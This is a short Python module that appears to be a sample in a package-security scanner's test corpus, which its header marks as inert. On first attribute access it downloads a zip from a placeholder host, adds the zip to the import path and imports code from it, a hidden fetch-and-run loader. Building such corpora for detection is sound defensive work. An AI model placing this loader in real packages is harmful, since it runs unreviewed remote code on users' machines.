# pkgguard corpus 674 (import-time), modelled on [empirical]; inert, never run.
import importlib
import sys
import tempfile
import urllib.request

_loaded = {}


def __getattr__(name):
    if "helper" not in _loaded:
        target = tempfile.mkdtemp() + "/plugins.zip"
        urllib.request.urlretrieve("https://plugin-cache.example/p.zip", target)
        sys.path.insert(0, target)
        _loaded["helper"] = importlib.import_module("helper")
    return getattr(_loaded["helper"], name)
